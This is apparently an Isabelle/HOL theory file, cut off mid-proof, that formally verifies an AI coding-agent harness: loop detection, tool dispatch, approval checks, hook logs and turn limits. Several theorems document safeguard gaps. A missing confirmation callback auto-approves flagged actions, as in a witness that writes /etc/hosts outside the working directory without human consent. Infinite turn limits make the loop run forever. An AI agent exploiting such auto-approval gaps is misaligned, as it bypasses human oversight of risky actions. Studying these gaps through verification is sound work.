   \<and> (6 \<le> length (history ld) \<and> \<not> (\<exists>x. slice_last 3 (history ld) = [x, x, x])
       \<and> join '','' (take 2 (slice_last 4 (history ld))) \<noteq> join '','' (drop 2 (slice_last 4 (history ld)))
       \<and> take 3 (slice_last 6 (history ld)) = drop 3 (slice_last 6 (history ld))
      \<longrightarrow> checkForLoop ld = Some ''Detected repeating cycle of length 3'')
   \<and> (a \<noteq> b
      \<longrightarrow> checkForLoop \<lparr>history = [a, b, a, b, a, b]\<rparr> = Some ''Detected repeating cycle of length 2'')"
  using checkForLoop_repeat [of ld] recordAction_thrice [of str t d ld] checkForLoop_cycle2 [of ld]
    checkForLoop_cycle3 [of ld] checkForLoop_alternating [of a b]
  by blast

theorem checkForLoop_reports_witness:
  "slice_last 3 (history \<lparr>history = [''x'', ''y'', ''y'', ''y'']\<rparr>) = [''y'', ''y'', ''y'']
   \<and> checkForLoop \<lparr>history = [''x'', ''y'', ''y'', ''y'']\<rparr> = Some ''Same action repeated 3 times''
   \<and> ''tool_call|read|path=a'' \<noteq> ''tool_call|read|path=b''
   \<and> checkForLoop \<lparr>history = [''tool_call|read|path=a'', ''tool_call|read|path=b'',
                                ''tool_call|read|path=a'', ''tool_call|read|path=b'',
                                ''tool_call|read|path=a'', ''tool_call|read|path=b'']\<rparr>
       = Some ''Detected repeating cycle of length 2''"
proof -
  have h1: "slice_last 3 (history \<lparr>history = [''x'', ''y'', ''y'', ''y'']\<rparr>) = [''y'', ''y'', ''y'']"
    by (simp add: slice_last_def)
  have h2: "''tool_call|read|path=a'' \<noteq> ''tool_call|read|path=b''"
    by simp
  from h1 h2
    checkForLoop_reports [of "\<lparr>history = [''x'', ''y'', ''y'', ''y'']\<rparr>" undefined "''''" undefined
      "''tool_call|read|path=a''" "''tool_call|read|path=b''"]
  show ?thesis
    by blast
qed

text \<open>
  Claim C6 as stated fails below six signatures: in the history a, b, a, b the length 2 is
  within half the history length and the most recent four signatures split into two equal
  halves, yet nothing is reported.
\<close>

theorem checkForLoop_short_history_counterexample:
  "(2 :: nat) \<le> length [''A'', ''B'', ''A'', ''B''] div 2
   \<and> take 2 (slice_last (2 * 2) [''A'', ''B'', ''A'', ''B''])
       = drop 2 (slice_last (2 * 2) [''A'', ''B'', ''A'', ''B''])
   \<and> checkForLoop \<lparr>history = [''A'', ''B'', ''A'', ''B'']\<rparr> = None"
  by (simp add: slice_last_def checkForLoop_def maxExactRepeats_def maxCycleLength_def)


section \<open>Properties of compaction\<close>



lemma compress_summary_nonempty:
  "compress chat prompt cm = Some (summary, u) \<Longrightarrow> summary \<noteq> []"
  by (auto simp: compress_def Let_def split: if_splits sum.splits prod.splits option.splits)






section \<open>Properties of tool dispatch\<close>

lemma invoke_unknown_tool:
  assumes "registry_get reg n = None"
  shows "invoke pcwd reg n ps wd am (hooks, w)
           = (Inr (ToolResult_error (''Unknown tool: '' @ n) [] [(''tool_name'', MStr n)]),
              hooks @ [AfterTool n ps (ToolResult_error (''Unknown tool: '' @ n) [] [(''tool_name'', MStr n)])],
              w)"
  using assms by (simp add: invoke_def Let_def)

lemma invoke_invalid_params:
  assumes "registry_get reg n = Some tool" and "validateParams tool ps \<noteq> []"
  shows "fst (invoke pcwd reg n ps wd am (hooks, w))
           = Inr (ToolResult_error (''Invalid parameters: '' @ join ''; '' (validateParams tool ps)) []
                    [(''tool_name'', MStr n), (''validation_errors'', MList (validateParams tool ps))])"
  using assms by (simp add: invoke_def Let_def)

lemma invoke_rejected:
  assumes "registry_get reg n = Some tool" and "validateParams tool ps = []"
    and "getConfirmation tool \<lparr>inv_params = ps, inv_cwd = wd\<rparr> w = Inr (Some confirmation)"
    and "checkApproval pcwd am (approval_context n ps tool confirmation) = REJECTED"
  shows "invoke pcwd reg n ps wd (Some am) (hooks, w)
           = (Inr (ToolResult_error ''Operation rejected by safety policy'' [] []),
              hooks @ [BeforeTool n ps,
                       AfterTool n ps (ToolResult_error ''Operation rejected by safety policy'' [] [])],
              w)"
  using assms by (simp add: invoke_def Let_def)

lemma invoke_declined:
  assumes "registry_get reg n = Some tool" and "validateParams tool ps = []"
    and "getConfirmation tool \<lparr>inv_params = ps, inv_cwd = wd\<rparr> w = Inr (Some confirmation)"
    and "checkApproval pcwd am (approval_context n ps tool confirmation) = NEEDS_CONFIRMATION"
    and "requestConfirmation am confirmation = Inr False"
  shows "invoke pcwd reg n ps wd (Some am) (hooks, w)
           = (Inr (ToolResult_error ''User rejected the operation'' [] []),
              hooks @ [BeforeTool n ps, AfterTool n ps (ToolResult_error ''User rejected the operation'' [] [])],
              w)"
  using assms by (simp add: invoke_def Let_def)

lemma invoke_without_refusal:
  assumes "registry_get reg n = Some tool" and "validateParams tool ps = []"
    and "am = None \<or> getConfirmation tool \<lparr>inv_params = ps, inv_cwd = wd\<rparr> w = Inr None"
  shows "invoke pcwd reg n ps wd am (hooks, w)
           = (case execute tool \<lparr>inv_params = ps, inv_cwd = wd\<rparr> w of
                (Inr result, w') \<Rightarrow> (Inr result, hooks @ [BeforeTool n ps, AfterTool n ps result], w')
              | (Inl err, w') \<Rightarrow>
                  (Inr (ToolResult_error (''Internal error: '' @ err) [] []),
                   hooks @ [BeforeTool n ps, AfterTool n ps (ToolResult_error (''Internal error: '' @ err) [] [])],
                   w'))"
  using assms by (auto simp: invoke_def Let_def split: option.splits sum.splits prod.splits)

lemma invoke_confirmed:
  assumes "registry_get reg n = Some tool" and "validateParams tool ps = []"
    and "getConfirmation tool \<lparr>inv_params = ps, inv_cwd = wd\<rparr> w = Inr (Some confirmation)"
    and "checkApproval pcwd am (approval_context n ps tool confirmation) = NEEDS_CONFIRMATION"
    and "requestConfirmation am confirmation = Inr True"
  shows "invoke pcwd reg n ps wd (Some am) (hooks, w)
           = (case execute tool \<lparr>inv_params = ps, inv_cwd = wd\<rparr> w of
                (Inr result, w') \<Rightarrow> (Inr result, hooks @ [BeforeTool n ps, AfterTool n ps result], w')
              | (Inl err, w') \<Rightarrow>
                  (Inr (ToolResult_error (''Internal error: '' @ err) [] []),
                   hooks @ [BeforeTool n ps, AfterTool n ps (ToolResult_error (''Internal error: '' @ err) [] [])],
                   w'))"
  using assms by (auto simp: invoke_def Let_def split: option.splits sum.splits prod.splits)

lemma invoke_getConfirmation_raises:
  assumes "registry_get reg n = Some tool" and "validateParams tool ps = []"
    and "getConfirmation tool \<lparr>inv_params = ps, inv_cwd = wd\<rparr> w = Inl err"
  shows "invoke pcwd reg n ps wd (Some am) (hooks, w) = (Inl err, hooks @ [BeforeTool n ps], w)"
  using assms by (simp add: invoke_def Let_def)

lemma invoke_callback_raises:
  assumes "registry_get reg n = Some tool" and "validateParams tool ps = []"
    and "getConfirmation tool \<lparr>inv_params = ps, inv_cwd = wd\<rparr> w = Inr (Some confirmation)"
    and "checkApproval pcwd am (approval_context n ps tool confirmation) = NEEDS_CONFIRMATION"
    and "requestConfirmation am confirmation = Inl err"
  shows "invoke pcwd reg n ps wd (Some am) (hooks, w) = (Inl err, hooks @ [BeforeTool n ps], w)"
  using assms by (simp add: invoke_def Let_def)

text \<open>On every path on which \<open>invoke\<close> returns a result, the log of hook events gains exactly
  one after-tool event, the last one, which carries the result; on the paths on which it
  raises, the log gains the before-tool event only.\<close>

lemma invoke_hook_log:
  "(\<exists>result w'. invoke pcwd reg n ps wd am (hooks, w) = (Inr result, hooks @ [AfterTool n ps result], w')
               \<or> invoke pcwd reg n ps wd am (hooks, w)
                    = (Inr result, hooks @ [BeforeTool n ps, AfterTool n ps result], w'))
   \<or> (\<exists>err. invoke pcwd reg n ps wd am (hooks, w) = (Inl err, hooks @ [BeforeTool n ps], w))"
  by (auto simp: invoke_def Let_def split: option.splits sum.splits prod.splits)

lemma invoke_after_hook_once_when_returning:
  assumes "invoke pcwd reg n ps wd am (hooks, w) = (Inr result, hooks', w')"
  shows "length (filter is_after_tool hooks') = Suc (length (filter is_after_tool hooks))
         \<and> last hooks' = AfterTool n ps result"
  using assms invoke_hook_log [of pcwd reg n ps wd am hooks w] by auto

lemma requestConfirmation_returns:
  assumes "confirmations_return reg am"
  shows "\<exists>answer. requestConfirmation am confirmation = Inr answer"
proof (cases "confirmationCallback am")
  case None
  then show ?thesis by (auto simp: requestConfirmation_def)
next
  case (Some callback)
  then show ?thesis
    using assms by (simp add: requestConfirmation_def confirmations_return_def)
qed

lemma invoke_returns:
  assumes "confirmations_return reg am"
  shows "\<exists>result hooks' w'. invoke pcwd reg n ps wd (Some am) (hooks, w) = (Inr result, hooks', w')"
proof (cases "registry_get reg n")
  case None
  then show ?thesis by (simp add: invoke_unknown_tool)
next
  case (Some tool)
  obtain c where c: "getConfirmation tool \<lparr>inv_params = ps, inv_cwd = wd\<rparr> w = Inr c"
    using assms Some unfolding confirmations_return_def by blast
  obtain answer where
    "\<And>confirmation. c = Some confirmation \<Longrightarrow> requestConfirmation am confirmation = Inr (answer confirmation)"
    using requestConfirmation_returns [OF assms] by metis
  then show ?thesis
    using Some c
    by (auto simp: invoke_def Let_def split: option.splits sum.splits prod.splits)
qed

text \<open>
  Claim C3, at the input where the code departs from it. The model asks for the shell tool
  with the number 42 as the command. The parameter is present, so validation passes and the
  before-tool hook is fired; \<open>getConfirmation\<close> then calls \<open>includes\<close> on the number and
  raises. The error leaves \<open>invoke\<close>: no after-tool hook is fired and no tool result is
  returned.
\<close>

theorem invoke_shell_number_command:
  "validateParams (ShellTool spawn) [(''command'', Some (JNum 42))] = []
   \<and> invoke pcwd \<lparr>tools = [(''shell'', ShellTool spawn)], mcpTools = [], allowedTools = None\<rparr>
        ''shell'' [(''command'', Some (JNum 42))] wd (Some am) (hooks, w)
       = (Inl ''TypeError: params.command.includes is not a function'',
          hooks @ [BeforeTool ''shell'' [(''command'', Some (JNum 42))]], w)"
proof -
  let ?reg = "\<lparr>tools = [(''shell'', ShellTool spawn)], mcpTools = [], allowedTools = None\<rparr>"
  let ?ps = "[(''command'', Some (JNum 42))]"
  have get: "registry_get ?reg ''shell'' = Some (ShellTool spawn)"
    by (simp add: registry_get_def)
  have valid: "validateParams (ShellTool spawn) ?ps = []"
    by (simp add: validateParams_def ShellTool_def schema_required_fields_def is_missing_def)
  have raise: "getConfirmation (ShellTool spawn) \<lparr>inv_params = ?ps, inv_cwd = wd\<rparr> w
                 = Inl ''TypeError: params.command.includes is not a function''"
    by (simp add: ShellTool_def shell_getConfirmation_def)
  show ?thesis
    using valid invoke_getConfirmation_raises [OF get valid raise] by simp
qed

text \<open>
  Claim C10. An approval manager built without a confirmation callback, as the constructor
  of a session builds it, answers every request for confirmation with true; a tool
  invocation whose approval decision is needs-confirmation then runs \<open>execute\<close> and
  returns its result (or the internal-error result when \<open>execute\<close> raises).
\<close>

theorem no_callback_confirms:
  "confirmationCallback (approvalManager (new_Session cfg reg0 cm w0)) = None
   \<and> (confirmationCallback am = None \<longrightarrow>
        requestConfirmation am confirmation = Inr True
        \<and> (registry_get reg n = Some tool \<and> validateParams tool ps = []
            \<and> getConfirmation tool \<lparr>inv_params = ps, inv_cwd = wd\<rparr> w = Inr (Some confirmation)
            \<and> checkApproval pcwd am (approval_context n ps tool confirmation) = NEEDS_CONFIRMATION
           \<longrightarrow> invoke pcwd reg n ps wd (Some am) (hooks, w)
                 = (case execute tool \<lparr>inv_params = ps, inv_cwd = wd\<rparr> w of
                      (Inr result, w') \<Rightarrow> (Inr result, hooks @ [BeforeTool n ps, AfterTool n ps result], w')
                    | (Inl err, w') \<Rightarrow>
                        (Inr (ToolResult_error (''Internal error: '' @ err) [] []),
                         hooks @ [BeforeTool n ps,
                                  AfterTool n ps (ToolResult_error (''Internal error: '' @ err) [] [])],
                         w'))))"
proof -
  have "confirmationCallback am = None \<Longrightarrow> requestConfirmation am confirmation = Inr True"
    by (simp add: requestConfirmation_def)
  then show ?thesis
    using invoke_confirmed [of reg n tool ps wd w confirmation pcwd am hooks]
    by (auto simp: new_Session_def new_ApprovalManager_def)
qed

theorem no_callback_confirms_witness:
  "confirmationCallback (approvalManager sample_session) = None
   \<and> registry_get sample_registry ''write_file'' = Some sample_tool
   \<and> validateParams sample_tool [(''path'', Some ''/etc/hosts'')] = []
   \<and> (case getConfirmation sample_tool
              \<lparr>inv_params = [(''path'', Some ''/etc/hosts'')], inv_cwd = ''/work''\<rparr> () of
         Inr (Some confirmation) \<Rightarrow>
           checkApproval ''/work'' (approvalManager sample_session)
             (approval_context ''write_file'' [(''path'', Some ''/etc/hosts'')] sample_tool confirmation)
         | other \<Rightarrow> APPROVED)
       = NEEDS_CONFIRMATION
   \<and> invoke ''/work'' sample_registry ''write_file'' [(''path'', Some ''/etc/hosts'')] ''/work''
        (Some (approvalManager sample_session)) ([], ())
       = (Inr (ToolResult_success ''written''),
          [BeforeTool ''write_file'' [(''path'', Some ''/etc/hosts'')],
           AfterTool ''write_file'' [(''path'', Some ''/etc/hosts'')] (ToolResult_success ''written'')],
          ())"
proof -
  let ?ps = "[(''path'', Some ''/etc/hosts'')] :: string Params"
  let ?am = "approvalManager sample_session"
  let ?conf = "\<lparr>conf_toolName = ''write_file'', conf_params = ?ps,
                description = ''Write file'', conf_diff = None,
                conf_affectedPaths = Some [''/etc/hosts''], conf_command = None,
                conf_isDangerous = None\<rparr>"
  have cb: "confirmationCallback ?am = None"
    by (simp add: sample_session_def new_Session_def new_ApprovalManager_def)
  have get: "registry_get sample_registry ''write_file'' = Some sample_tool"
    by (simp add: registry_get_def sample_registry_def)
  have valid: "validateParams sample_tool ?ps = []"
    by (simp add: validateParams_def sample_tool_def schema_required_fields_def is_missing_def)
  have conf: "getConfirmation sample_tool \<lparr>inv_params = ?ps, inv_cwd = ''/work''\<rparr> () = Inr (Some ?conf)"
    by (simp add: sample_tool_def)
  have esc: "escapes_cwd ''/work'' ''/work'' ''/etc/hosts''"
    by code_simp
  have decision: "checkApproval ''/work'' ?am (approval_context ''write_file'' ?ps sample_tool ?conf)
                    = NEEDS_CONFIRMATION"
    using esc
    by (simp add: checkApproval_def approval_context_def sample_tool_def truthy_string_def
        sample_session_def new_Session_def new_ApprovalManager_def sample_config_def)
  have run: "execute sample_tool \<lparr>inv_params = ?ps, inv_cwd = ''/work''\<rparr> ()
               = (Inr (ToolResult_success ''written''), ())"
    by (simp add: sample_tool_def)
  from no_callback_confirms [of sample_config sample_registry sample_context "()" ?am ?conf
      sample_registry "''write_file''" sample_tool ?ps "''/work''" "()" "''/work''" "[]"]
    cb get valid conf decision
  have "invoke ''/work'' sample_registry ''write_file'' ?ps ''/work'' (Some ?am) ([], ())
          = (Inr (ToolResult_success ''written''),
             [BeforeTool ''write_file'' ?ps, AfterTool ''write_file'' ?ps (ToolResult_success ''written'')],
             ())"
    by (simp add: run)
  then show ?thesis
    using cb get valid conf decision by simp
qed

section \<open>Properties of the agent loop\<close>

lemma dispatch_session:
  "dispatch E calls (yielded, toolResults, s) = (yielded', toolResults', s', raised)
     \<Longrightarrow> turnCount s' = turnCount s \<and> toolRegistry s' = toolRegistry s
         \<and> approvalManager s' = approvalManager s \<and> config s' = config s"
proof (induction calls arbitrary: yielded toolResults s)
  case Nil
  then show ?case by simp
next
  case (Cons call calls)
  then show ?case
    by (auto simp: Let_def split: prod.splits sum.splits)
qed

lemma dispatch_returns:
  "confirmations_return (toolRegistry s) (approvalManager s)
     \<Longrightarrow> dispatch E calls (yielded, toolResults, s) = (yielded', toolResults', s', raised)
     \<Longrightarrow> raised = None"
proof (induction calls arbitrary: yielded toolResults s)
  case Nil
  then show ?case by simp
next
  case (Cons call calls)
  obtain result hooks' w' where
    "invoke (processCwd E) (toolRegistry s) (pending_name call) (pending_arguments call)
        (config_cwd (config s)) (Some (approvalManager s)) (hookLog s, world s)
       = (Inr result, hooks', w')"
    using invoke_returns [OF Cons.prems(1)] by blast
  then show ?case
    using Cons.prems
    by (auto simp: Let_def dest!: Cons.IH [rotated])
qed

lemma turn_session:
  "turnCount (snd (snd (turn E s))) = increment (turnCount s)
   \<and> toolRegistry (snd (snd (turn E s))) = toolRegistry s
   \<and> approvalManager (snd (snd (turn E s))) = approvalManager s"
  apply (simp add: turn_def Let_def split: prod.split)
  apply (intro allI impI conjI)
  apply (auto split: option.split dest!: dispatch_session)
  done

lemma consume_event_calls:
  "length (fst (snd (snd acc))) \<le> length (fst (snd (snd (consume_event event acc))))
   \<and> (ev_type event = TOOL_CALL_COMPLETE \<and> toolCall event \<noteq> None
       \<longrightarrow> length (fst (snd (snd acc))) < length (fst (snd (snd (consume_event event acc)))))"
  by (cases acc) (auto simp: consume_event_def split: option.splits)

lemma fold_consume_mono:
  "length (fst (snd (snd acc))) \<le> length (fst (snd (snd (fold consume_event events acc))))"
proof (induction events arbitrary: acc)
  case Nil
  then show ?case by simp
next
  case (Cons event events)
  have "length (fst (snd (snd acc))) \<le> length (fst (snd (snd (consume_event event acc))))"
    using consume_event_calls by blast
  also have "\<dots> \<le> length (fst (snd (snd (fold consume_event events (consume_event event acc)))))"
    using Cons.IH by blast
  finally show ?case by simp
qed

lemma fold_consume_grows:
  assumes "requests_tool_call events"
  shows "length (fst (snd (snd acc))) < length (fst (snd (snd (fold consume_event events acc))))"
  using assms
proof (induction events arbitrary: acc)
  case Nil
  then show ?case by (simp add: requests_tool_call_def)
next
  case (Cons event events)
  show ?case
  proof (cases "ev_type event = TOOL_CALL_COMPLETE \<and> toolCall event \<noteq> None")
    case True
    then have "length (fst (snd (snd acc))) < length (fst (snd (snd (consume_event event acc))))"
      using consume_event_calls by blast
    also have "\<dots> \<le> length (fst (snd (snd (fold consume_event events (consume_event event acc)))))"
      using fold_consume_mono by blast
    finally show ?thesis by simp
  next
    case False
    then have "requests_tool_call events"
      using Cons.prems by (auto simp: requests_tool_call_def)
    then have "length (fst (snd (snd (consume_event event acc))))
                 < length (fst (snd (snd (fold consume_event events (consume_event event acc)))))"
      using Cons.IH by blast
    moreover have "length (fst (snd (snd acc))) \<le> length (fst (snd (snd (consume_event event acc))))"
      using consume_event_calls by blast
    ultimately show ?thesis by simp
  qed
qed

lemma consume_requests_tool_call:
  assumes "requests_tool_call events" and "consume events = (responseText, yielded, calls, u)"
  shows "length calls \<noteq> 0"
  using fold_consume_grows [OF assms(1), of "([], [], [], None)"] assms(2)
  by (simp add: consume_def)

text \<open>When the response asks for a tool, the turn does not take the early return; when in
  addition no confirmation raises, the loop goes on.\<close>

lemma turn_asks:
  assumes "\<And>t request schemas. requests_tool_call (chatCompletion E t request schemas)"
  shows "fst (snd (turn E s)) \<noteq> Finished"
  using assms
  apply (simp add: turn_def Let_def split: prod.split)
  apply (intro allI impI conjI)
   apply (auto split: option.split dest!: consume_requests_tool_call [rotated])
  done

lemma turn_continues:
  assumes "\<And>t request schemas. requests_tool_call (chatCompletion E t request schemas)"
    and "confirmations_return (toolRegistry s) (approvalManager s)"
  shows "fst (snd (turn E s)) = Continue"
  using assms
  apply (simp add: turn_def Let_def split: prod.split)
  apply (intro allI impI conjI)
   apply (auto split: option.split dest!: consume_requests_tool_call [rotated] dispatch_returns [rotated])
  done

lemma below_limit_ceiling: "below_limit t (Finite r) \<longleftrightarrow> t < nat \<lceil>r\<rceil>"
proof -
  have "of_nat t < r \<longleftrightarrow> int t < \<lceil>r\<rceil>"
    by (simp add: less_ceiling_iff)
  then show ?thesis by auto
qed

lemma below_limit_increment:
  assumes "r \<le> 2 ^ 53" and "below_limit t (Finite r)"
  shows "increment t = Suc t"
proof -
  have "real t < 2 ^ 53"
    using assms by simp
  then have "real t < real (2 ^ 53)"
    by simp
  then have "t < 2 ^ 53"
    by (simp only: of_nat_less_iff)
  then show ?thesis
    by (simp add: increment_def)
qed

lemma increment_le: "increment k \<le> Suc k"
  by (simp add: increment_def)

text \<open>With a finite limit of at most \<open>2^53\<close> the loop runs at most as many turns as the
  limit rounded up, and it returns as soon as the fuel exceeds that number.\<close>

lemma agenticLoop_bound:
  assumes "r \<le> 2 ^ 53"
  shows "agenticLoop fuel E (Finite r) t s = Some (yielded, raised, s')
     \<Longrightarrow> turnCount s' \<le> turnCount s + (nat \<lceil>r\<rceil> - t)"
proof (induction fuel arbitrary: t s yielded raised s')
  case 0
  then show ?case by simp
next
  case (Suc fuel)
  show ?case
  proof (cases "below_limit t (Finite r)")
    case False
    then show ?thesis
      using Suc.prems by simp
  next
    case True
    then have lt: "t < nat \<lceil>r\<rceil>"
      by (simp only: below_limit_ceiling)
    have next_turn: "increment t = Suc t"
      using assms True by (rule below_limit_increment)
    obtain y1 st s1 where step: "turn E s = (y1, st, s1)"
      by (cases "turn E s") auto
    then have count: "turnCount s1 \<le> Suc (turnCount s)"
      using turn_session [of E s] increment_le [of "turnCount s"] by simp
    show ?thesis
    proof (cases st)
      case Finished
      then show ?thesis
        using Suc.prems True step count lt by simp
    next
      case (Raised err)
      then show ?thesis
        using Suc.prems True step count lt by simp
    next
      case Continue
      then obtain later where "agenticLoop fuel E (Finite r) (Suc t) s1 = Some (later, raised, s')"
        using Suc.prems True step next_turn by (auto split: option.splits)
      then have "turnCount s' \<le> turnCount s1 + (nat \<lceil>r\<rceil> - Suc t)"
        by (rule Suc.IH)
      then show ?thesis
        using count lt by simp
    qed
  qed
qed

lemma agenticLoop_returns:
  assumes "r \<le> 2 ^ 53"
  shows "nat \<lceil>r\<rceil> - t < fuel \<Longrightarrow> \<exists>outcome. agenticLoop fuel E (Finite r) t s = Some outcome"
proof (induction fuel arbitrary: t s)
  case 0
  then show ?case by simp
next
  case (Suc fuel)
  show ?case
  proof (cases "below_limit t (Finite r)")
    case False
    then show ?thesis by simp
  next
    case True
    then have "t < nat \<lceil>r\<rceil>"
      by (simp only: below_limit_ceiling)
    then have "nat \<lceil>r\<rceil> - Suc t < fuel"
      using Suc.prems by simp
    then have "\<exists>outcome. agenticLoop fuel E (Finite r) (Suc t) (snd (snd (turn E s))) = Some outcome"
      by (rule Suc.IH)
    moreover have "increment t = Suc t"
      using assms True by (rule below_limit_increment)
    ultimately show ?thesis
      using True by (auto split: prod.splits step.splits option.splits)
  qed
qed

text \<open>A limit that is not a number, or minus infinity, ends the loop before the first turn.
  With a model that always asks for a tool and no raise, the loop never returns when the
  limit is infinite, nor when it is above \<open>2^53\<close>, where the counter of the loop
  stays.\<close>

lemma agenticLoop_no_turn:
  assumes "limit = NaN \<or> limit = NegInfinity"
  shows "agenticLoop (Suc fuel) E limit t s
           = Some ([AgentError (''Maximum turns ('' @ number_text (numberToString E) limit @ '') reached'')],
                   None, s)"
  using assms by auto

lemma agenticLoop_infinite:
  assumes "\<And>t request schemas. requests_tool_call (chatCompletion E t request schemas)"
    and "confirmations_return (toolRegistry s) (approvalManager s)"
  shows "agenticLoop fuel E PosInfinity t s = None"
  using assms(2)
proof (induction fuel arbitrary: t s)
  case 0
  then show ?case by simp
next
  case (Suc fuel)
  obtain y1 st s1 where step: "turn E s = (y1, st, s1)"
    by (cases "turn E s") auto
  then have "st = Continue"
    using turn_continues [OF assms(1) Suc.prems] by simp
  moreover have "confirmations_return (toolRegistry s1) (approvalManager s1)"
    using turn_session [of E s] step Suc.prems by simp
  then have "agenticLoop fuel E PosInfinity (increment t) s1 = None"
    by (rule Suc.IH)
  ultimately show ?case
    using step by simp
qed

lemma agenticLoop_absorbed:
  assumes "\<And>t request schemas. requests_tool_call (chatCompletion E t request schemas)"
    and "2 ^ 53 < r"
  shows "confirmations_return (toolRegistry s) (approvalManager s) \<Longrightarrow> t \<le> 2 ^ 53
     \<Longrightarrow> agenticLoop fuel E (Finite r) t s = None"
proof (induction fuel arbitrary: t s)
  case 0
  then show ?case by simp
next
  case (Suc fuel)
  have "real t \<le> real (2 ^ 53)"
    using Suc.prems(2) by (simp only: of_nat_le_iff)
  then have below: "below_limit t (Finite r)"
    using assms(2) by simp
  obtain y1 st s1 where step: "turn E s = (y1, st, s1)"
    by (cases "turn E s") auto
  then have st: "st = Continue"
    using turn_continues [OF assms(1) Suc.prems(1)] by simp
  have "confirmations_return (toolRegistry s1) (approvalManager s1)"
    using turn_session [of E s] step Suc.prems(1) by simp
  moreover have "increment t \<le> 2 ^ 53"
    using Suc.prems(2) by (simp add: increment_def)
  ultimately have "agenticLoop fuel E (Finite r) (increment t) s1 = None"
    by (rule Suc.IH)
  then show ?case
    using step below st by simp
qed

text \<open>With a model that always asks for a tool and no raise, the loop runs exactly as many
  turns as the limit rounded up, and its last event is the limit-reached event.\<close>

lemma agenticLoop_runs_ceiling:
  assumes "\<And>t request schemas. requests_tool_call (chatCompletion E t request schemas)"
    and "r \<le> 2 ^ 53"
  shows "confirmations_return (toolRegistry s) (approvalManager s)
     \<Longrightarrow> turnCount s + (nat \<lceil>r\<rceil> - t) \<le> 2 ^ 53
     \<Longrightarrow> agenticLoop fuel E (Finite r) t s = Some (yielded, raised, s')
     \<Longrightarrow> raised = None \<and> turnCount s' = turnCount s + (nat \<lceil>r\<rceil> - t) \<and> yielded \<noteq> []
         \<and> last yielded
             = AgentError (''Maximum turns ('' @ number_text (numberToString E) (Finite r) @ '') reached'')"
proof (induction fuel arbitrary: t s yielded raised s')
  case 0
  then show ?case by simp
next
  case (Suc fuel)
  show ?case
  proof (cases "below_limit t (Finite r)")
    case False
    moreover from False have "\<not> t < nat \<lceil>r\<rceil>"
      using below_limit_ceiling by blast
    ultimately show ?thesis
      using Suc.prems(3) by auto
  next
    case True
    then have lt: "t < nat \<lceil>r\<rceil>"
      by (simp only: below_limit_ceiling)
    have next_turn: "increment t = Suc t"
      using assms(2) True by (rule below_limit_increment)
    obtain y1 st s1 where step: "turn E s = (y1, st, s1)"
      by (cases "turn E s") auto
    then have st: "st = Continue"
      using turn_continues [OF assms(1) Suc.prems(1)] by simp
    have "turnCount s < 2 ^ 53"
      using Suc.prems(2) lt by simp
    then have "increment (turnCount s) = Suc (turnCount s)"
      by (simp add: increment_def)
    then have count: "turnCount s1 = Suc (turnCount s)"
      and inv: "confirmations_return (toolRegistry s1) (approvalManager s1)"
      using turn_session [of E s] step Suc.prems(1) by simp_all
    have room: "turnCount s1 + (nat \<lceil>r\<rceil> - Suc t) \<le> 2 ^ 53"
      using Suc.prems(2) count lt by simp
    obtain later where rest: "agenticLoop fuel E (Finite r) (Suc t) s1 = Some (later, raised, s')"
      and all: "yielded = y1 @ later"
      using Suc.prems(3) True step st next_turn by (auto split: option.splits)
    have "raised = None \<and> turnCount s' = turnCount s1 + (nat \<lceil>r\<rceil> - Suc t) \<and> later \<noteq> []
          \<and> last later
              = AgentError (''Maximum turns ('' @ number_text (numberToString E) (Finite r) @ '') reached'')"
      using inv room rest by (rule Suc.IH)
    then show ?thesis
      using count lt all by simp
  qed
qed

lemma show_number_1: "show_number 1 = ''1''"
  by (simp add: show_number_def decimal_digit digit_def)

lemma agenticLoop_one_turn:
  assumes "\<And>t request schemas. requests_tool_call (chatCompletion E t request schemas)"
    and "confirmations_return (toolRegistry s) (approvalManager s)"
    and "maxTurns (config s) = Finite 1"
  shows "run_agenticLoop (Suc (Suc fuel)) E s
           = Some (fst (turn E s) @ [AgentError ''Maximum turns (1) reached''], None, snd (snd (turn E s)))"
proof -
  obtain y1 st s1 where step: "turn E s = (y1, st, s1)"
    by (cases "turn E s") auto
  then have "st = Continue"
    using turn_continues [OF assms(1,2)] by simp
  then show ?thesis
    using step assms(3) by (simp add: run_agenticLoop_def show_number_1 increment_def)
qed

text \<open>The sample session: its confirmations return, so with the limit 1 it runs one turn
  and ends with the limit-reached event, and with the limit 1.5 it runs two turns.\<close>

lemma sample_confirmations_return:
  "confirmations_return (toolRegistry sample_session) (approvalManager sample_session)"
  by (auto simp: confirmations_return_def sample_session_def new_Session_def new_ApprovalManager_def
      sample_registry_def registry_get_def sample_tool_def split: if_splits)

lemma sample_asks: "requests_tool_call (chatCompletion sample_env t request schemas)"
  by (simp add: sample_env_def requests_tool_call_def sample_call_event_def)

lemma sample_one_turn:
  "run_agenticLoop 2 sample_env sample_session
     = Some (fst (turn sample_env sample_session) @ [AgentError ''Maximum turns (1) reached''], None,
             snd (snd (turn sample_env sample_session)))
   \<and> turns_run (run_agenticLoop 2 sample_env sample_session) = Some 1"
proof -
  have "maxTurns (config sample_session) = Finite 1"
    by (simp add: sample_session_def new_Session_def sample_config_def)
  then have "run_agenticLoop (Suc (Suc 0)) sample_env sample_session
      = Some (fst (turn sample_env sample_session) @ [AgentError ''Maximum turns (1) reached''], None,
              snd (snd (turn sample_env sample_session)))"
    using agenticLoop_one_turn [of sample_env sample_session 0] sample_asks sample_confirmations_return
    by blast
  moreover have "turnCount sample_session = 0"
    by (simp add: sample_session_def new_Session_def)
  ultimately show ?thesis
    using turn_session [of sample_env sample_session]
    by (simp add: turns_run_def numeral_2_eq_2 increment_def)
qed

lemma fraction_two_turns:
  "turns_run (run_agenticLoop 3 sample_env fraction_session) = Some 2"
proof -
  have limit: "maxTurns (config fraction_session) = Finite (3 / 2)"
    by (simp add: fraction_session_def sample_config_def)
  have inv: "confirmations_return (toolRegistry fraction_session) (approvalManager fraction_session)"
    using sample_confirmations_return by (simp add: fraction_session_def)
  have start: "turnCount fraction_session = 0"
    by (simp add: fraction_session_def sample_session_def new_Session_def)
  have up: "nat \<lceil>3 / 2 :: real\<rceil> = 2"
    by (simp add: ceiling_eq_iff)
  have small: "(3 / 2 :: real) \<le> 2 ^ 53"
    by simp
  obtain yielded raised s' where
    run: "agenticLoop 3 sample_env (Finite (3 / 2)) 0 fraction_session = Some (yielded, raised, s')"
    using agenticLoop_returns [OF small, of 0 3 sample_env fraction_session]
    by (auto simp: up)
  have room: "turnCount fraction_session + (nat \<lceil>3 / 2 :: real\<rceil> - 0) \<le> 2 ^ 53"
    by (simp add: start up)
  have "turnCount s' = 2"
    using agenticLoop_runs_ceiling [OF sample_asks small inv room run] start up by simp
